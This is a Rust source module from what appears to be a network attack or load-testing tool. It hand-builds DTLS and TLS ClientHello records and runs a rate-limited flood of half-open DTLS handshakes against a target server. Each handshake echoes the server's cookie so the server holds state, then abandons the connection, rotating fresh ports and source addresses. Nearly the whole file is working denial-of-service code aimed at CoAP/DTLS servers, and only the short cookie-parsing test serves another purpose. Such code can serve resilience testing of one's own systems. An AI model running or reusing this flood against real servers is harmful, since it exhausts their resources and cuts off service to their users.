//! Half-open DTLS handshakes: a ClientHello, the cookie sent back as the server's
//! HelloVerifyRequest asks (so the server keeps state for the handshake), then
//! silence. Also the TLS ClientHello the `tls`/`wss` connection floods send.
//!
//! The hellos are written here byte by byte (RFC 6347 §4.2, RFC 5246 §7.4.1.2): the
//! attacker needs no key, and building them costs nothing next to the server's work.

use crate::{count, AttackCtx, Pacer, Rng};
use std::net::{IpAddr, Ipv6Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;
use tokio::net::UdpSocket;
use tokio::sync::Semaphore;

/// Cipher suites offered: the PSK and ECDHE-ECDSA suites a CoAP server accepts.
const SUITES: [u16; 6] = [0xC0A8, 0x00A8, 0xC0AE, 0xC02B, 0xC0A4, 0x008C];

/// The body of a ClientHello (DTLS when `cookie` is given, possibly empty; TLS 1.2
/// without).
pub fn hello_body(random: &[u8; 32], cookie: Option<&[u8]>) -> Vec<u8> {
    let mut b = Vec::with_capacity(128);
    b.extend_from_slice(if cookie.is_some() {
        &[0xfe, 0xfd]
    } else {
        &[0x03, 0x03]
    });
    b.extend_from_slice(random);
    b.push(0); // no session id
    if let Some(c) = cookie {
        b.push(c.len() as u8);
        b.extend_from_slice(c);
    }
    b.extend_from_slice(&((SUITES.len() * 2) as u16).to_be_bytes());
    for s in SUITES {
        b.extend_from_slice(&s.to_be_bytes());
    }
    b.extend_from_slice(&[1, 0]); // compression: null
    let extensions: &[u8] = &[
        0x00, 0x0a, 0x00, 0x04, 0x00, 0x02, 0x00, 0x17, // supported_groups: secp256r1
        0x00, 0x0b, 0x00, 0x02, 0x01, 0x00, // ec_point_formats: uncompressed
        0x00, 0x0d, 0x00, 0x04, 0x00, 0x02, 0x04,
        0x03, // signature_algorithms: ecdsa_secp256r1_sha256
        0x00, 0x17, 0x00, 0x00, // extended_master_secret
    ];
    b.extend_from_slice(&(extensions.len() as u16).to_be_bytes());
    b.extend_from_slice(extensions);
    b
}

/// A DTLS record holding one unfragmented ClientHello (`message_seq`, record
/// sequence number `seq`).
pub fn dtls_client_hello(random: &[u8; 32], cookie: &[u8], message_seq: u16, seq: u64) -> Vec<u8> {
    let body = hello_body(random, Some(cookie));
    let len = body.len() as u32;
    let mut hs = vec![1]; // client_hello
    hs.extend_from_slice(&len.to_be_bytes()[1..]);
    hs.extend_from_slice(&message_seq.to_be_bytes());
    hs.extend_from_slice(&[0, 0, 0]); // fragment offset
    hs.extend_from_slice(&len.to_be_bytes()[1..]); // fragment length
    hs.extend_from_slice(&body);
    let mut r = vec![22, 0xfe, 0xfd, 0, 0]; // handshake, DTLS 1.2, epoch 0
    r.extend_from_slice(&seq.to_be_bytes()[2..]);
    r.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    r.extend_from_slice(&hs);
    r
}

/// A TLS record holding a TLS 1.2 ClientHello.
pub fn tls_client_hello(random: &[u8; 32]) -> Vec<u8> {
    let body = hello_body(random, None);
    let len = body.len() as u32;
    let mut hs = vec![1];
    hs.extend_from_slice(&len.to_be_bytes()[1..]);
    hs.extend_from_slice(&body);
    let mut r = vec![22, 0x03, 0x01];
    r.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    r.extend_from_slice(&hs);
    r
}

/// The cookie of a HelloVerifyRequest record, if `d` starts with one.
pub fn cookie_of(d: &[u8]) -> Option<&[u8]> {
    // Record header (13), handshake header (12), server_version (2), cookie length (1).
    if d.len() < 28 || d[0] != 22 || d[13] != 3 {
        return None;
    }
    let n = usize::from(d[27]);
    d.get(28..28 + n)
}

/// Opens half-open handshakes at `ctx.rate` per second, `ctx.in_flight` at a time,
/// each from a new socket (a new source port) on the source addresses in turn.
pub async fn flood(ctx: AttackCtx) {
    let ctx = Arc::new(ctx);
    let slots = Arc::new(Semaphore::new(ctx.in_flight));
    let mut pacer = Pacer::new(ctx.rate);
    let mut rng = Rng::new(7);
    let mut n = 0usize;
    let mut tick = tokio::time::interval(Duration::from_millis(1));
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
    while !ctx.stopped() {
        tick.tick().await;
        for _ in 0..pacer.due(u64::from(ctx.rate / 10 + 1)) {
            let Ok(slot) = slots.clone().try_acquire_owned() else {
                count(&ctx.counters, "skipped (in-flight limit)", 1);
                continue;
            };
            let source = if ctx.target.is_ipv6() {
                IpAddr::V6(Ipv6Addr::LOCALHOST)
            } else {
                ctx.source_for(n)
            };
            n += 1;
            let mut random = [0u8; 32];
            random.copy_from_slice(&rng.bytes(32));
            let ctx = ctx.clone();
            tokio::spawn(async move {
                let outcome = half_open(source, ctx.target, &random).await;
                count(&ctx.counters, outcome, 1);
                drop(slot);
            });
        }
    }
}

/// One half-open handshake; returns what happened, for the counters.
async fn half_open(source: IpAddr, target: SocketAddr, random: &[u8; 32]) -> &'static str {
    let Ok(socket) = UdpSocket::bind(SocketAddr::new(source, 0)).await else {
        return "bind failed";
    };
    let mut buf = [0u8; 2048];
    let wait = Duration::from_secs(1);
    if socket
        .send_to(&dtls_client_hello(random, &[], 0, 0), target)
        .await
        .is_err()
    {
        return "send failed";
    }
    let cookie = match tokio::time::timeout(wait, socket.recv_from(&mut buf)).await {
        Ok(Ok((n, _))) => match cookie_of(&buf[..n]) {
            Some(c) => c.to_vec(),
            None => return "no HelloVerifyRequest (other answer)",
        },
        _ => return "no HelloVerifyRequest",
    };
    if socket
        .send_to(&dtls_client_hello(random, &cookie, 1, 1), target)
        .await
        .is_err()
    {
        return "send failed";
    }
    match tokio::time::timeout(wait, socket.recv_from(&mut buf)).await {
        Ok(Ok((n, _))) if n > 13 && buf[0] == 22 => "half-open (server flight received)",
        Ok(Ok(_)) => "cookie accepted, other answer (alert?)",
        _ => "cookie sent, no server flight",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hello_verify_request_cookie() {
        let mut hvr = vec![22, 0xfe, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x17];
        hvr.extend_from_slice(&[3, 0, 0, 0x0b, 0, 0, 0, 0, 0, 0, 0, 0x0b, 0xfe, 0xff, 8]);
        hvr.extend_from_slice(&[1, 2, 3, 4, 5, 6, 7, 8]);
        assert_eq!(cookie_of(&hvr), Some(&[1, 2, 3, 4, 5, 6, 7, 8][..]));
        assert_eq!(cookie_of(&hvr[..20]), None);
    }
}
